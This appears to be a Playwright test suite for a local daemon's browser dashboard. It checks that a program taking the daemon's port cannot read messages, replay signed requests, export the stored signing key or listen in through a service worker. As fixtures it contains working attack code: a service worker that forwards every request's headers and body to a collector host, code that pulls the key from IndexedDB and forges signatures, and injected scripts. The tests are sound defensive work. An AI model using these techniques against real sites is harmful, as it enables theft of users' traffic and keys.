import { afterEach, beforeEach, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import type { AgentView, Check } from "../../src/api/schema.ts";
import type { DeviceView } from "../../src/api/schemas/page.ts";
import { describeUnless } from "../../src/testing/needing.ts";
import { until } from "../../src/testing/until.ts";
import { lackOfChromium } from "../dashboard/stage.ts";
import {
  compose,
  html,
  startAttackServer,
  startBrowserWorld,
  type AttackServer,
  type BrowserWorld,
} from "./browserWorld.ts";

/**
 * A program that takes the daemon's port while the daemon is down. To the browser it is the same origin as the
 * dashboard: its scripts can use what is stored for that origin, and stay in open tabs, service workers and caches when
 * the daemon is back.
 */
describeUnless(lackOfChromium)("a program at the daemon's port while the daemon is down", () => {
  let place: BrowserWorld;
  let open: Page;
  let origin: string;
  beforeEach(async () => {
    place = await startBrowserWorld();
    open = await place.signIn();
    origin = new URL(open.url()).origin;
  });
  afterEach(() => place[Symbol.asyncDispose]());

  const restart = (): Promise<unknown> => place.world.json(["daemon", "start"]);

  test("learns nothing from an open tab, and what it caught is worth nothing later", async () => {
    const pane = await place.world.pane(["cat"]);
    const { team } = await place.world.json<AgentView>(["adopt", pane, "--name", "tester"]);
    await open.locator('.card[data-agent="tester"]').waitFor();
    await compose(open, "ana", "before");
    await open.locator(".receipts a").first().waitFor();
    await place.world.killDaemon();
    let answer = (): Response => Response.json({ boot: "x", clockMs: 1, key: "AAAA", signature: "AAAA" });
    const squatter = await startAttackServer(place.port, () => answer());
    await open.locator(".connection.stranger").waitFor();
    for (const other of [
      () => Response.json({ code: "SESSION_EXPIRED" }, { status: 401 }),
      () => html("<script>window.owned = 1</script>"),
      () => Response.redirect(`http://127.0.0.1:${place.port}/v1/send`, 307),
    ]) {
      answer = other;
      const before = squatter.caught.length;
      await until(() => squatter.caught.length > before + 1, "more requests of the open tab");
    }
    await compose(open, "ana", "TOP-SECRET words");
    await open.locator(".compose .failure").waitFor();
    // The scripts of views that were not opened yet are there already.
    answer = () => new Response("window.owned = 1", { headers: { "content-type": "text/javascript" } });
    await open.evaluate((hash) => (location.hash = hash), `#/terminal/${team}:tester`);
    await open.locator(".xterm-screen").waitFor();
    expect(squatter.caught.filter(({ url }) => new URL(url).pathname.startsWith("/assets/"))).toEqual([]);
    expect(await open.evaluate(() => "owned" in window)).toBe(false);
    for (const { url, headers, body } of squatter.caught) {
      expect(new URL(url).pathname).toBe("/page/hello");
      expect(Object.keys(JSON.parse(body) as object)).toEqual(["nonce"]);
      expect(
        Object.keys(headers).filter((name) =>
          ["authorization", "cookie", "referer", "x-tieline-caller"].includes(name),
        ),
      ).toEqual([]);
    }
    expect(squatter.said()).not.toContain("TOP-SECRET");
    await squatter[Symbol.asyncDispose]();

    await restart();
    await open.locator(".connection.live").waitFor();
    await compose(open, "ana", "after");
    await until(async () => (await place.mailOf("ana")).includes("after"), "the message after the restart");
    expect((await place.mailOf("ana")).toSorted()).toEqual(["after", "before"]);
  });

  test("cannot repeat requests that it recorded at the port before, and cannot use the stored key", async () => {
    // The tab believes in the daemon of this boot, and its signed requests end up in other hands.
    const recorded: { url: string; init: RequestInit }[] = [];
    await open.locator(".connection.live").waitFor();
    await open.route("**/v1/**", async (route) => {
      const request = route.request();
      recorded.push({
        url: request.url(),
        init: {
          method: request.method(),
          headers: { ...(await request.allHeaders()), "sec-fetch-site": "same-origin" },
          ...(request.method() === "POST" && { body: request.postData()! }),
        },
      });
      // What the daemon never got was not used yet; all others are heard and answered, so that the tab continues.
      if (request.url().endsWith("/v1/send")) await route.abort("connectionreset");
      else await route.continue();
    });
    await compose(open, "ana", "recorded");
    await until(() => recorded.some(({ url }) => url.endsWith("/v1/send")), "a recorded request");
    await place.world.killDaemon();
    const squatter = await startAttackServer(place.port, () => html(""));
    const squat = await place.tab(origin);
    expect(await squat.evaluate(exportStored)).toEqual({ device: expect.any(String), exported: "InvalidAccessError" });
    await squatter[Symbol.asyncDispose]();
    // What the open tab signs from now on is for the next daemon.
    const replayed = [...recorded];
    await open.unrouteAll({ behavior: "ignoreErrors" });
    await restart();

    for (const { url, init } of replayed)
      expect({ url, status: (await fetch(url, init)).status }).toEqual({ url, status: 401 });
    expect(await place.mailOf("ana")).toEqual([]);
    expect(await squat.evaluate(signAnew)).toEqual(refusals);
    // Also when the user has signed in again, in the same browser.
    const fresh = await place.signIn();
    expect(new URL(fresh.url()).origin).not.toBe(origin);
    expect(await squat.evaluate(signAnew)).toEqual(refusals);
    await compose(fresh, "ana", "by the user");
    await until(async () => (await place.mailOf("ana")).length > 0, "the message of the user");
    expect(await place.mailOf("ana")).toEqual(["by the user"]);
  });

  test("cannot listen in by a service worker, neither to the open tab nor to a later link", async () => {
    await using collector = await startAttackServer(
      0,
      () => new Response("", { headers: { "access-control-allow-origin": "*" } }),
    );
    await place.world.killDaemon();
    const squatter = await startAttackServer(place.port, (request) =>
      new URL(request.url).pathname === "/worker.js"
        ? new Response(worker(collector.port), { headers: { "content-type": "text/javascript" } })
        : html("the squatter's page"),
    );
    // Wherever the dashboard is or was.
    const squats = await Promise.all([
      place.tab(origin),
      place.tab(`http://127.0.0.1:${place.port}`),
      place.tab(`http://localhost:${place.port}`),
    ]);
    for (const squat of squats) await squat.evaluate(installWorker);
    await open.getByText("its service worker reads what this page sends").waitFor();
    await squatter[Symbol.asyncDispose]();
    await restart();

    // The worker is really there: it answers for the address that the dashboard had.
    const old = await place.tab(origin);
    await old.getByText("by the worker").waitFor();
    await open.locator(".sign-in").waitFor();
    const fresh = await place.signIn();
    expect(await fresh.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
    expect(await fresh.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
    await compose(fresh, "ana", "for ana only");
    await until(async () => (await place.mailOf("ana")).length > 0, "the message");
    await fresh.reload();
    await fresh.locator(".connection.live").waitFor();
    expect(collector.caught.length).toBeGreaterThan(0);
    expect(collector.said()).not.toContain("for ana only");
    expect(collector.said()).not.toContain("Tieline-Tab");
    expect(collector.said()).not.toContain("sign-in/");
    expect(collector.said()).not.toContain(new URL(fresh.url()).host);
  });

  test("that stays there when the daemon starts gets nothing by passing everything on", async () => {
    await place.world.killDaemon();
    let daemonPort: number | null = null;
    const squatter: AttackServer = await startAttackServer(place.port, async (request, { method, body }) => {
      if (daemonPort === null) return html("not yet");
      const url = new URL(request.url);
      const headers = new Headers(request.headers);
      // Under the old address, and as the daemon itself would be called.
      const aliases = [headers.get("host")!, `127.0.0.1:${daemonPort}`];
      for (const host of aliases) {
        headers.set("host", host);
        if (headers.has("origin")) headers.set("origin", `http://${host}`);
        const passed = await fetch(`http://127.0.0.1:${daemonPort}${url.pathname}${url.search}`, {
          method,
          headers,
          ...(method === "POST" && { body }),
        });
        if (passed.ok) return passed;
      }
      return new Response("", { status: 502 });
    });
    await using _ = squatter;
    await restart();
    const home = place.world.env["TIELINE_HOME"]!;
    daemonPort = Number(readFileSync(join(home, "port"), "utf8"));
    expect(daemonPort).not.toBe(place.port);
    // Every session is void, and the log says so.
    expect(await place.world.json<DeviceView[]>(["devices", "ls"])).toEqual([]);
    expect(readFileSync(join(home, "daemon.log"), "utf8")).toContain(
      `port ${place.port} is taken by another program: this daemon is at port ${daemonPort}, and every ` +
        "browser is signed out",
    );
    const checks = JSON.parse((await place.world.tieline(["doctor", "--json"])).stdout) as Check[];
    expect(checks.find(({ name }) => name === "port")).toMatchObject({
      status: "warning",
      detail: expect.stringContaining(`port ${place.port} is taken`),
    });
    // The tab does not believe the proof of a daemon at another port.
    const before = squatter.caught.length;
    await until(() => squatter.caught.length > before + 2, "the open tab to try");
    await open.locator(".connection.stranger").waitFor();
    await compose(open, "ana", "TOP-SECRET words");
    await open.locator(".compose .failure").waitFor();
    expect(
      squatter.caught
        .slice(before)
        .map(({ url }) => new URL(url).pathname)
        .filter((path) => path !== "/page/hello"),
    ).toEqual([]);
    expect(squatter.said()).not.toContain("TOP-SECRET");
    const fresh = await place.signIn();
    expect(new URL(fresh.url()).port).toBe(String(daemonPort));
  });
});

/** Both methods by which a page could sign with the stored key, and what the daemon says to each. */
const refusals = { openTab: 401, asTab: [401, 401] };

/** Runs in the squatter's page: the stored key, as far as it can be had. */
async function exportStored(): Promise<{ device: string; exported: string }> {
  const opening = indexedDB.open("tieline");
  await new Promise((resolve) => opening.addEventListener("success", resolve));
  const getting = opening.result.transaction("devices").objectStore("devices").get("this") as IDBRequest<{
    id: string;
    key: CryptoKey;
  }>;
  await new Promise((resolve) => getting.addEventListener("success", resolve));
  Object.assign(window, { stolen: getting.result });
  const exported = await crypto.subtle.exportKey("pkcs8", getting.result.key).catch((thrown: Error) => thrown.name);
  return { device: getting.result.id, exported: String(exported) };
}

/**
 * Runs in the squatter's page, which is still open when the daemon is back: signs with the stored key what the daemon
 * could want.
 */
async function signAnew(): Promise<{ openTab: number; asTab: number[] }> {
  const { id, key } = (window as unknown as { stolen: { id: string; key: CryptoKey } }).stolen;
  const encoded = (bytes: ArrayBuffer): string =>
    btoa(String.fromCharCode(...new Uint8Array(bytes)))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
  const textFor = (...parts: (string | number)[]): string => JSON.stringify(["tieline page 1", ...parts]);
  const sign = async (text: string): Promise<string> =>
    encoded(await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, key, new TextEncoder().encode(text)));
  const post = (path: string, body: object): Promise<Response> =>
    fetch(path, { method: "POST", body: JSON.stringify(body) });
  const { boot, clockMs } = (await (await post("/page/hello", { nonce: "0123456789abcdef0123" })).json()) as {
    boot: string;
    clockMs: number;
  };
  const { publicKey } = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, false, ["sign"]);
  const tabKey = encoded(await crypto.subtle.exportKey("spki", publicKey));
  const opened = await post("/page/tab", {
    device: id,
    tabKey,
    signature: await sign(textFor("open tab", boot, location.origin, id, tabKey)),
  });
  const digest = encoded(await crypto.subtle.digest("SHA-256", new Uint8Array()));
  const asTab: number[] = [];
  for (const tab of [
    id,
    encoded(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(tabKey))).slice(0, 22),
  ]) {
    const signature = await sign(
      textFor("request", boot, location.origin, tab, 1, clockMs, "GET", "/v1/whoami", digest, "*/*", "", ""),
    );
    asTab.push(
      (
        await fetch("/v1/whoami", {
          headers: { authorization: `Tieline-Tab ${tab} ${boot} 1 ${clockMs} ${digest} ${signature}` },
        })
      ).status,
    );
  }
  return { openTab: opened.status, asTab };
}

/** Runs in the squatter's page. */
async function installWorker(): Promise<void> {
  await navigator.serviceWorker.register("/worker.js", { scope: "/" });
  await navigator.serviceWorker.ready;
}

/** Takes over every open page of its origin, tells what they send, and answers every request. */
const worker = (collector: number): string => `
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("fetch", (event) => event.respondWith((async () => {
    const { request } = event;
    const { url, referrer } = request;
    const told = { url, referrer, headers: [...request.headers], body: await request.clone().text() };
    await fetch("http://127.0.0.1:${collector}/", { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
    if (request.mode !== "navigate") return fetch(request);
    return new Response("by the worker", { headers: { "content-type": "text/html" } });
  })()));
`;
